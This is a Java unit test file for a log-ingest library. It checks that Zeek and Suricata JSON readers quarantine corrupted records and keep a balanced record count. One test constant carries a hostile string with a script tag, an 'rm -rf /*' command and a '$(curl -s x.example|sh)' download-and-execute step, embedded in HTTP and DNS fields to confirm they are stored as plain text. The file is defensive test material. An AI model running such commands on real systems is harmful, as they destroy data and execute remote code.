package io.stagehunt.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import io.stagehunt.event.DnsQuery;
import io.stagehunt.event.Event;
import io.stagehunt.event.HttpRequest;
import io.stagehunt.ingest.suricata.SuricataEveFormat;
import io.stagehunt.ingest.zeek.ZeekJsonFormat;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Both JSON readers fed corrupted and hostile input: truncated lines, values of the wrong type, binary junk, a
 * 10 MB line, invalid UTF-8, deep nesting, huge numbers, NUL bytes, and well-formed records whose strings carry
 * control characters, markup and shell metacharacters. No exception escapes, each bad record is quarantined
 * with its own line, each good one is produced with its strings intact, and the ledger balances.
 */
class JsonReadersHostileInputTest {

    /** What is hostile to one reader: its format, a good record, and its fields of a fixed type. */
    record Dialect(String name, LogFormat format, String good, String wrongType, String hugeNumber,
            String hostile, Function<ReaderFixture, List<String>> hostileValues) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static final String HOSTILE =
            "<script>alert(1)</script>;rm -rf /*$(curl -s x.example|sh)`id`\\u0007\\u001b[2J";
    private static final String HOSTILE_DECODED =
            "<script>alert(1)</script>;rm -rf /*$(curl -s x.example|sh)`id`\u0007\u001b[2J";

    static Stream<Dialect> dialects() {
        String zeekConn = "{\"ts\":1709650801.123456,\"uid\":\"CmES5u32sYpV7JYN1\",\"id.orig_h\":\"10.20.4.17\","
                + "\"id.orig_p\":49732,\"id.resp_h\":\"203.0.113.45\",\"id.resp_p\":443,\"proto\":\"tcp\","
                + "\"service\":\"ssl\",\"duration\":60.020417,\"orig_bytes\":1841,\"resp_bytes\":5213,"
                + "\"conn_state\":\"SF\",\"orig_pkts\":14,\"resp_pkts\":12,\"_path\":\"conn\"}";
        String zeekHttp = "{\"_path\":\"http\",\"ts\":1709650815.1,\"uid\":\"CzA1\",\"id.orig_h\":\"10.20.4.17\","
                + "\"id.orig_p\":49740,\"id.resp_h\":\"198.51.100.23\",\"id.resp_p\":8080,\"method\":\"GET\","
                + "\"host\":\"" + HOSTILE + "\",\"uri\":\"/" + HOSTILE + "\",\"user_agent\":\"" + HOSTILE + "\"}";
        String eveFlow = "{\"timestamp\":\"2024-03-05T15:01:01.981107+0100\",\"flow_id\":1139426524843013,"
                + "\"event_type\":\"flow\",\"src_ip\":\"10.20.4.17\",\"src_port\":49732,\"dest_ip\":\"203.0.113.45\","
                + "\"dest_port\":443,\"proto\":\"TCP\",\"flow\":{\"pkts_toserver\":14,\"pkts_toclient\":12,"
                + "\"bytes_toserver\":2573,\"bytes_toclient\":5845,\"start\":\"2024-03-05T15:00:01.123456+0100\","
                + "\"end\":\"2024-03-05T15:01:01.143873+0100\",\"state\":\"closed\",\"reason\":\"timeout\"},"
                + "\"tcp\":{\"tcp_flags_ts\":\"1b\",\"tcp_flags_tc\":\"1b\"}}";
        String eveDns = "{\"timestamp\":\"2024-03-05T15:00:03.5+0100\",\"flow_id\":99,\"event_type\":\"dns\","
                + "\"src_ip\":\"10.20.4.17\",\"src_port\":53211,\"dest_ip\":\"10.20.0.2\",\"dest_port\":53,"
                + "\"proto\":\"UDP\",\"dns\":{\"version\":2,\"type\":\"query\",\"id\":1,\"rrname\":\"" + HOSTILE
                + "\",\"rrtype\":\"TXT\",\"tx_id\":0}}";
        String eveHttp = "{\"timestamp\":\"2024-03-05T15:00:04+0100\",\"flow_id\":98,\"event_type\":\"http\","
                + "\"src_ip\":\"10.20.4.17\",\"src_port\":49740,\"dest_ip\":\"198.51.100.23\",\"dest_port\":80,"
                + "\"proto\":\"TCP\",\"http\":{\"hostname\":\"" + HOSTILE + "\",\"url\":\"/" + HOSTILE
                + "\",\"http_user_agent\":\"" + HOSTILE + "\",\"http_method\":\"GET\",\"status\":200,\"length\":1}}";
        return Stream.of(
                new Dialect("zeek-json", new ZeekJsonFormat(), zeekConn, "\"orig_bytes\":\"lots\"",
                        "\"orig_bytes\":1e999", zeekHttp, result -> hostileOf(result.of(HttpRequest.class))),
                new Dialect("suricata-eve", new SuricataEveFormat(), eveFlow, "\"src_port\":\"http\"",
                        "\"bytes_toserver\":1e999", eveHttp + "\n" + eveDns, result -> {
                            List<String> values = new ArrayList<>(hostileOf(result.of(HttpRequest.class)));
                            result.of(DnsQuery.class).forEach(query -> values.add(query.query()));
                            return values;
                        }));
    }

    private static List<String> hostileOf(List<HttpRequest> requests) {
        List<String> values = new ArrayList<>();
        for (HttpRequest request : requests) {
            values.add(request.hostHeader());
            values.add(request.uri().substring(1));
            values.add(request.userAgent());
        }
        return values;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dialects")
    void everyBadRecordIsQuarantinedWithItsLineAndNoExceptionEscapes(Dialect dialect) {
        String good = dialect.good();
        String firstKey = good.substring(0, good.indexOf(':'));
        Map<String, byte[]> bad = new LinkedHashMap<>();
        bad.put("truncated JSON", utf8(good.substring(0, good.length() / 2)));
        bad.put("found a string", utf8(good.replaceFirst(numberField(dialect.wrongType()), dialect.wrongType())));
        bad.put("out of range", utf8(good.replaceFirst(numberField(dialect.hugeNumber()), dialect.hugeNumber())));
        bad.put("JSON number longer than", utf8(good.replaceFirst(numberField(dialect.hugeNumber()),
                dialect.hugeNumber().replace("1e999", "7".repeat(300)))));
        bad.put("nested deeper", utf8("{\"x\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"));
        bad.put("invalid UTF-8", withBytes(good, new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF}));
        bad.put("NUL byte", withBytes(good, new byte[] {0, 0, 0}));
        bad.put("exceeds the limit", utf8("{\"x\":\"" + "A".repeat(10 * 1024 * 1024) + "\"}"));
        bad.put("not a JSON object", utf8("[" + good + "]"));
        bad.put("trailing content", utf8(good + " " + good));
        bad.put("malformed JSON", utf8(good.replace(firstKey + ":", firstKey + "::")));
        bad.put("", junk(new Random(20240305L), 400));

        ByteArrayOutputStream input = new ByteArrayOutputStream();
        Map<Long, String> expectedReasons = new LinkedHashMap<>();
        long line = 0;
        int goodRecords = 0;
        for (Map.Entry<String, byte[]> entry : bad.entrySet()) {
            input.writeBytes(utf8(good + "\r\n"));
            goodRecords++;
            input.writeBytes(entry.getValue());
            input.write('\n');
            expectedReasons.put(line + 2, entry.getKey());
            line += 2;
        }
        input.writeBytes(utf8("\n" + dialect.hostile() + "\n"));

        ReaderFixture result = ReaderFixture.read(dialect.format(), input.toByteArray());

        assertThat(result.account().balanced()).isTrue();
        assertThat(result.account().quarantined()).isEqualTo(bad.size());
        assertThat(result.quarantinedLines()).containsExactlyElementsOf(expectedReasons.keySet());
        expectedReasons.forEach((badLine, reason) ->
                assertThat(result.reasonOfLine(badLine)).as("line " + badLine).contains(reason));
        assertThat(result.account().skipReasons()).containsEntry("blank line", 1L);
        List<String> hostileValues = dialect.hostileValues().apply(result);
        assertThat(hostileValues).isNotEmpty().allSatisfy(value -> assertThat(value).isEqualTo(HOSTILE_DECODED));
        assertThat(result.events()).hasSize(goodRecords + dialect.hostile().split("\n").length);
        assertThat(result.account().samples()).allSatisfy(sample ->
                assertThat(sample.excerpt().chars().noneMatch(c -> c < 0x20 || c == 0x7F)).isTrue());
    }

    /** A byte-order mark that a Windows tool wrote before the first record is no part of it. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("dialects")
    void aByteOrderMarkBeforeTheFirstRecordIsNoPartOfIt(Dialect dialect) {
        ByteArrayOutputStream input = new ByteArrayOutputStream();
        input.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        input.writeBytes((dialect.good() + "\n").getBytes(StandardCharsets.UTF_8));

        ReaderFixture result = ReaderFixture.read(dialect.format(), input.toByteArray());

        assertThat(result.events()).hasSize(1);
        assertThat(result.quarantinedLines()).isEmpty();
    }

    @ParameterizedTest(name = "{0}, seed {1}")
    @MethodSource("seeds")
    void randomlyCorruptedRecordsNeverBreakTheReaderOrTheLedger(Dialect dialect, long seed) {
        Random random = new Random(seed);
        byte[] good = utf8(dialect.good());
        ByteArrayOutputStream input = new ByteArrayOutputStream();
        for (int i = 0; i < 400; i++) {
            byte[] line = Arrays.copyOf(good, good.length);
            int damage = random.nextInt(4);
            for (int k = 0; k < damage; k++) {
                line[random.nextInt(line.length)] = (byte) random.nextInt(256);
            }
            if (random.nextInt(5) == 0) {
                line = Arrays.copyOf(line, random.nextInt(line.length));
            }
            input.writeBytes(line);
            input.write('\n');
        }

        ReaderFixture result = ReaderFixture.read(dialect.format(), input.toByteArray());

        assertThat(result.account().balanced()).isTrue();
        assertThat(result.account().read()).isGreaterThanOrEqualTo(400);
        assertThat(result.account().produced()).isEqualTo(result.events().size());
        assertThat(result.account().quarantined()).isPositive();
        for (Event event : result.events()) {
            assertThat(event.provenance().record()).isBetween(1L, result.account().read());
        }
    }

    static Stream<Arguments> seeds() {
        return dialects().flatMap(dialect -> Stream.of(1L, 2L, 3L, 4L, 5L).map(seed -> Arguments.of(dialect, seed)));
    }

    /** The {@code "key":value} of {@code replacement}'s key in a good record, as a regular expression. */
    private static String numberField(String replacement) {
        String key = replacement.substring(0, replacement.indexOf(':') + 1);
        return Pattern.quote(key) + "[0-9.]+";
    }

    private static byte[] withBytes(String good, byte[] inserted) {
        int at = good.indexOf("\":\"") + 3;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(good.substring(0, at)));
        out.writeBytes(inserted);
        out.writeBytes(utf8(good.substring(at)));
        return out.toByteArray();
    }

    private static byte[] junk(Random random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        for (int i = 0; i < bytes.length; i++) {
            if (bytes[i] == '\n' || bytes[i] == '\r') {
                bytes[i] = 0x01;
            }
        }
        return bytes;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
